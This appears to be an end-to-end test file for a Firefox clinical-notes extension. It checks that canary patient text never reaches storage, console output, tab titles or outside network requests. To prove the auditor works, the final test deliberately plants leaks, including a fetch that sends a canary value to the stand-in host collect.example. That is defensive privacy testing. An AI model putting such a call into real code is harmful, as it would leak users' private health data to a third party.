import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHostile } from '../../hostile/start.ts';
import type { Loopback } from '../../loopback.ts';
import { type FirefoxStage, openFirefox } from '../firefox-stage.ts';
import { foreignRequests, keptByExtension, leaksIn, type Traces } from './audit.ts';
import { type LoggingProxy, startLoggingProxy } from './logging-proxy.ts';

let site: Loopback;
let proxy: LoggingProxy;
let stage: FirefoxStage;
let printed = '';

beforeAll(async () => {
  site = await startHostile();
  proxy = await startLoggingProxy();
  stage = await openFirefox({
    prefs: {
      'network.proxy.type': 1,
      'network.proxy.http': '127.0.0.1',
      'network.proxy.http_port': proxy.port,
      'network.proxy.ssl': '127.0.0.1',
      'network.proxy.ssl_port': proxy.port,
      'network.proxy.allow_hijacking_localhost': true,
      // The console of every page and of the extension's worker is printed.
      'devtools.console.stdout.content': true,
      'devtools.console.stdout.chrome': true,
    },
  });
  const { stdout, stderr } = stage.browser.process() ?? {};
  for (const stream of [stdout, stderr])
    stream?.on('data', (part: Buffer) => {
      printed += part.toString('utf8');
    });
});
afterAll(async () => {
  await stage?.close();
  await proxy?.close();
  await site?.close();
});

const traces = async (): Promise<Traces> => ({
  ...((await stage.options.evaluate(keptByExtension)) as Traces),
  console: printed,
  requests: proxy.requests.join('\n'),
});

describe('a patient’s words in Firefox', () => {
  it('pass through every flow', async () => {
    const page = await stage.browser.newPage();
    await page.goto(`${site.url}/29-canary-chart.html`);
    const tabId = await stage.tabIdOf(page.url());
    const sidebar = await stage.sidebarFor(page.url());
    await sidebar.waitForSelector('[data-state="report"]');
    const insert = await sidebar.waitForSelector('[data-rule="duration-stated"] [data-shortcut="Enter"]');
    await insert?.click();
    await page.bringToFront();
    await sidebar.waitForSelector('[data-element="duration"][data-status="present"]');
    await page.type('[name="goals"]', 'canary-noted goals: sit for an hour');
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 800)));
    const checked = await sidebar.evaluate(
      `browser.runtime.sendMessage({ type: 'check-text', text: 'Massage therapy, canary-pasted, M54.5' }).then(({ ok }) => ok)`,
    );
    expect(checked).toBe(true);
    const dismissed = await sidebar.evaluate(
      `browser.runtime.sendMessage({ type: 'dismiss', tabId: ${tabId}, rule: 'goals-measurable' }).then(({ ok }) => ok)`,
    );
    expect(dismissed).toBe(true);
    const papers = await stage.open(`document.html?tab=${tabId}`);
    await papers.waitForSelector('[data-paper] textarea');
    await papers.type('[data-paper] textarea', 'canary-noted by hand');
  });

  it('are then found nowhere', async () => {
    const found = await traces();
    console.log(`looked through ${Object.keys(found).length} places in Firefox`);
    expect(Object.keys(found).length).toBeGreaterThan(12);
    expect(leaksIn(found)).toEqual([]);
  });

  it('and nothing was requested but the pages under test', () => {
    const foreign = foreignRequests(proxy.requests, site.url);
    const ours = proxy.requests.filter((request) => request.includes(`${site.url}/`));
    console.log(
      `${proxy.requests.length} requests of Firefox: ${ours.length} for the pages under test, ${foreign.length} elsewhere, the others its own`,
    );
    expect(foreign).toEqual([]);
    expect(ours).toContain(`GET ${site.url}/29-canary-chart.html`);
  });

  it('and a leak would be found', async () => {
    await stage.options.evaluate(`(async () => {
      await browser.storage.local.set({ leak: 'Zebulon' });
      await browser.storage.session.set({ leak: 'CNRY-77310' });
      console.log('canary-pasted');
      document.title = 'canary-noted';
      (await browser.runtime.getBackgroundPage())?.console.warn('Canaryfield');
    })()`);
    const [page] = (await stage.browser.pages()).filter((each) => each.url().startsWith(site.url));
    await page?.evaluate(() =>
      fetch('http://collect.example/?said=canary-yellow', { mode: 'no-cors' }).catch(() => null),
    );
    const found = leaksIn(await traces()).join('\n');
    for (const leak of [
      'storage.local: Zebulon',
      'storage.session: CNRY-77310',
      'console: canary-pasted',
      'console: Canaryfield',
      'titles and addresses of our tabs: canary-noted',
      'requests: canary-yellow',
    ])
      expect(found).toContain(leak);
  });
});
